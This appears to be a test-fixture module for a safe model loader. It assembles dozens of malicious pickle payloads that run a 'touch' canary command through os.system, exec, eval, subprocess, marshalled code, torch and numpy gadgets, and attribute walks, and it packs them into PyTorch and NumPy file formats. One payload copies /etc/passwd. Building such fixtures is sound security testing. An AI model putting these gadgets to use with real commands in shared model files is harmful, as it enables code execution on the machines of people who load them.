"""Files that run a command when somebody opens them carelessly: pickles, and what pickles are packed in.

Every payload makes one file, its canary. `armed` are those that do so under Python's own `pickle.loads`: a test fires
each of them once, so that a corpus of duds cannot pass for safety.
"""

import io
import marshal
import pickle
import pickletools
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import torch

METADATA, FILESYSTEM = "torch.distributed.checkpoint.metadata", "torch.distributed.checkpoint.filesystem"

# --- Assembling pickles ----------------------------------------------------------------------------------------------


def value(thing) -> bytes:
    """The opcodes that push a plain value, without any memo of their own."""
    text = pickletools.optimize(pickle.dumps(thing, protocol=3))
    return text[2:-1]


def name(module: str, attribute: str) -> bytes:
    """GLOBAL: the opcode of protocols 0 to 3; a dot in `attribute` is looked up literally."""
    return f"c{module}\n{attribute}\n".encode()


def dotted(module: str, path: str) -> bytes:
    """STACK_GLOBAL: the opcode of protocol 4; `path` may walk through attributes."""
    return value(module) + value(path) + pickle.STACK_GLOBAL


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def attribute(module: bytes, wanted: str = "system") -> bytes:
    return call(name("builtins", "getattr"), module, value(wanted))


def stream(*opcodes: bytes, protocol: int = 2) -> bytes:
    return pickle.PROTO + bytes([protocol]) + b"".join(opcodes) + pickle.STOP


def armed_pickles(canary: Path) -> dict[str, bytes]:
    """Pickles that make `canary` under `pickle.loads`."""
    path, command = str(canary), value(f"touch {canary}")
    source = f"open({path!r}, 'w').close()"
    code, system = value(source), name("os", "system")
    fire = call(system, command)
    os_module = call(name("importlib", "import_module"), value("os"))
    direct = {
        "os.system": fire,
        "posix.system": call(name("posix", "system"), command),
        "builtins.exec": call(name("builtins", "exec"), code),
        "builtins.eval": call(name("builtins", "eval"), code),
        "Python 2's __builtin__.eval": call(name("__builtin__", "eval"), code),
        "subprocess.check_output": call(name("subprocess", "check_output"), value(["touch", path])),
        "subprocess.getoutput": call(name("subprocess", "getoutput"), command),
        "os.spawnlp": call(name("os", "spawnlp"), value(0), value("touch"), value("touch"), value(path)),
        "uuid._get_command_stdout": call(name("uuid", "_get_command_stdout"), value("touch"), value(path)),
        "getattr of an import": call(attribute(os_module), command),
        "operator.attrgetter": call(call(call(name("operator", "attrgetter"), value("system")), os_module), command),
        "operator.methodcaller": call(call(name("operator", "methodcaller"), value("system"), command), os_module),
        "functools.partial": call(call(name("functools", "partial"), system, command)),
        "a marshalled function": call(
            call(
                name("types", "FunctionType"),
                call(name("marshal", "loads"), value(marshal.dumps(compile(source, "x", "exec")))),
                call(name("builtins", "globals")),
            )
        ),
        "runpy._run_code": call(name("runpy", "_run_code"), code, value({})),
        "timeit.timeit": call(name("timeit", "timeit"), code, value("pass"), name("time", "perf_counter"), value(1)),
        "pickle.loads of another": call(name("pickle", "loads"), value(stream(fire))),
        "io.open": call(name("io", "open"), value(path), value("w")),
        "logging.FileHandler": call(name("logging", "FileHandler"), value(path)),
        "shutil.copyfile": call(name("shutil", "copyfile"), value("/etc/passwd"), value(path)),
        "torch.jit execWrapper": call(
            name("torch.jit.unsupported_tensor_ops", "execWrapper"), code, value({}), value({})
        ),
        "torch.utils.collect_env.run": call(name("torch.utils.collect_env", "run"), command),
        "torch.fx _exec_with_source": call(name("torch.fx.graph_module", "_exec_with_source"), code, value({})),
        "numpy runstring": call(name("numpy.testing._private.utils", "runstring"), code, value({})),
        # What an allow-list of modules, instead of names, would let through.
        "a module that an allowed one imports": call(attribute(name(METADATA, "os")), command),
        "protocol 0": b"cos\nsystem\n(S'touch " + path.encode() + b"'\ntR",
        "INST": b"(S'touch " + path.encode() + b"'\nios\nsystem\n",
        "OBJ": pickle.MARK + name("subprocess", "Popen") + value(["touch", path]) + b"o",
        # Kept in the memo, dropped, and fetched again.
        "memo": system + b"q\x07" + pickle.POP + value(None) + pickle.POP + call(b"h\x07", command),
        "extension registry": call(name("copyreg", "add_extension"), value("os"), value("system"), value(240))
        + pickle.POP
        + call(b"\x82\xf0", command),
        "a class that gets a __setstate__": name(METADATA, "Metadata")
        + _slots(value("__setstate__"), system)
        + pickle.POP
        + name(METADATA, "Metadata")
        + value(())
        + pickle.NEWOBJ
        + command
        + pickle.BUILD,
        "a function that gets other code": call(
            name("torch.serialization", "_get_layout")
            + _slots(value("__code__"), call(name("builtins", "compile"), code, value("x"), value("exec")))
        ),
    }
    reached = {
        "os of DCP's metadata": call(dotted(METADATA, "os.system"), command),
        "os of DCP's filesystem": call(dotted(FILESYSTEM, "os.system"), command),
        "pickle of DCP's filesystem": call(dotted(FILESYSTEM, "pickle.loads"), value(stream(fire))),
        "io of DCP's planner": call(dotted("torch.distributed.checkpoint.planner", "io.open"), value(path), value("w")),
        "os of torch.serialization": call(dotted("torch.serialization", "os.system"), command),
        "sys of collections": call(attribute(call(dotted("collections", "_sys.modules.get"), value("os"))), command),
        "builtins of _get_layout": call(
            call(dotted("torch.serialization", "_get_layout.__builtins__.get"), value("exec")), code
        ),
        "builtins of Metadata.__init__": call(
            call(dotted(METADATA, "Metadata.__init__.__builtins__.get"), value("exec")), code
        ),
        "globals of _get_layout": call(
            attribute(call(dotted("torch.serialization", "_get_layout.__globals__.get"), value("os"))), command
        ),
        "pathlib.Path.touch": call(dotted("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), value(path))),
        "a dotted name in a frame": pickle.FRAME
        + (len(call(dotted("os", "path.os.system"), command)) + 1).to_bytes(8, "little")
        + call(dotted("os", "path.os.system"), command),
    }
    return {key: stream(opcodes) for key, opcodes in direct.items()} | {
        key: stream(opcodes, protocol=4) for key, opcodes in reached.items()
    }


def _slots(key: bytes, content: bytes) -> bytes:
    """BUILD with attributes to set, on whatever lies on the stack."""
    return value(None) + pickle.EMPTY_DICT + key + content + pickle.SETITEM + pickle.TUPLE2 + pickle.BUILD


def dud_pickles(canary: Path) -> dict[str, bytes]:
    """Pickles that ask for more than a plain `pickle.loads` gives, or change classes that outlive them."""
    command = value(f"touch {canary}")
    layout, metadata = name("torch.serialization", "_get_layout"), name(METADATA, "Metadata")
    ordered = name("collections", "OrderedDict")
    return {
        "a persistent id": b"Pos.system\n.",
        "a binary persistent id": stream(value(("storage", "os.system")), pickle.BINPERSID),
        "an extension that nobody registered": stream(b"\x82\xf1"),
        "an out-of-band buffer": stream(pickle.NEXT_BUFFER, protocol=5),
        "a dotted GLOBAL": stream(call(name("torch.serialization", "_get_layout.__globals__.get"), value("os"))),
        "a name with a space": stream(call(name("torch.serialization ", "_get_layout"), value("x"))),
        "a name that differs in case": stream(call(dotted("torch.serialization", "_GET_LAYOUT"), value("x"))),
        "a module that is no text": stream(value(7) + value("x") + pickle.STACK_GLOBAL, protocol=4),
        "__main__": stream(call(dotted("__main__", "sys.modules.get"), value("os")), protocol=4),
        "nothing": b"",
        "no pickle": b"MZ" + bytes(100),
        "cut short": stream(metadata)[:-2],
        "a memo index that asks for 16 GiB": stream(value(1), b"r\xff\xff\xff\x7f"),
        "a text of 8 EiB": stream(b"\x8d" + (1 << 62).to_bytes(8, "little"), protocol=4),
        "a class with another constructor": stream(metadata, _slots(value("__init__"), ordered)),
        "a class with another comparison": stream(metadata, _slots(value("__eq__"), ordered)),
        "a class with a class above it": stream(metadata, _slots(value("__bases__"), value(()))),
        "a function with another cache": stream(layout, _slots(value("cache"), call(ordered)), pickle.POP, value(1)),
        "an Enum with another member": stream(
            name("torch.distributed.checkpoint.planner", "WriteItemType"), _slots(value("SHARD"), command)
        ),
        "another file": stream(command),
    }


class Evil:
    """Runs a command wherever an honest pickler meets it."""

    def __init__(self, canary: Path):
        self.canary = canary

    def __reduce__(self):
        import os

        return os.system, (f"touch {self.canary}",)


# --- What pickles are packed in --------------------------------------------------------------------------------------


def torch_zip(payload: bytes, *, extra: dict[str, bytes] | None = None) -> bytes:
    """torch.save's archive with another pickle in it, and further members."""
    buffer, changed = io.BytesIO(), io.BytesIO()
    torch.save(torch.zeros(3), buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(changed, "w", zipfile.ZIP_STORED) as target:
        for member in source.namelist():
            target.writestr(member, payload if member.endswith("data.pkl") else source.read(member))
        for member, content in (extra or {}).items():
            target.writestr(f"{source.namelist()[0].split('/')[0]}/{member}", content)
    return changed.getvalue()


def torch_legacy(payload: bytes) -> bytes:
    """The format of torch.save before 1.6: pickles one after the other."""
    heads = (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True})
    return b"".join(pickle.dumps(head, protocol=2) for head in heads) + payload + pickle.dumps([], protocol=2)


def torch_tar(payload: bytes) -> bytes:
    """The format of torch.save before 0.1.10."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for member in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(member)
            entry.size = len(payload)
            archive.addfile(entry, io.BytesIO(payload))
    return buffer.getvalue()


def torch_script(payload: bytes) -> bytes:
    """An archive that looks like a compiled module."""
    code = b"def forward(self) -> None:\n  pass\n"
    return torch_zip(payload, extra={"constants.pkl": payload, "code/__torch__.py": code})


PACKINGS = {"bare": bytes, "zip": torch_zip, "legacy": torch_legacy, "tar": torch_tar, "script": torch_script}


def numpy_object_array(payload: bytes) -> bytes:
    """A .npy file whose content is a pickle."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return header.getvalue() + payload


def numpy_archive(payload: bytes) -> bytes:
    """A .npz file with such an array in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("tokens.npy", numpy_object_array(payload))
    return buffer.getvalue()
